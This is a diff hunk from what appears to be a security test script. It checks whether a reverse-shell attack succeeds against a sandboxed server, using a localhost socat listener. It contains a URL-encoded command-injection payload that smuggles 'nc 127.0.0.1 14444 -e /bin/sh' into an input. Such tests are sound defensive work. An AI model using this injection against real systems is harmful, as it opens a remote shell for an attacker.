@@ -131,7 +131,7 @@ srv_effect_dropped_script() { grep -q 'uid=' "$B/rootfs/tmp/dropped-ran"; }
 srv_attack_reverse_shell() {
 	rm -f "$TMP/rshell.out"
 	# the listener sends one command to whoever connects and records the answer
-	(echo 'echo RSHELL-$(id -u)'; sleep 3) | in_ns socat -t 3 TCP-LISTEN:14444,bind=127.0.0.1,reuseaddr STDIO >"$TMP/rshell.out" 2>/dev/null &
+	(echo 'echo RSHELL-$(id -u)'; sleep 3) | in_ns_for 8 socat -t 3 TCP-LISTEN:14444,bind=127.0.0.1,reuseaddr STDIO >"$TMP/rshell.out" 2>/dev/null &
 	local l=$!
 	sleep 0.3
 	inject 'a%3Bnc%20127.0.0.1%2014444%20-e%20%2Fbin%2Fsh' >/dev/null
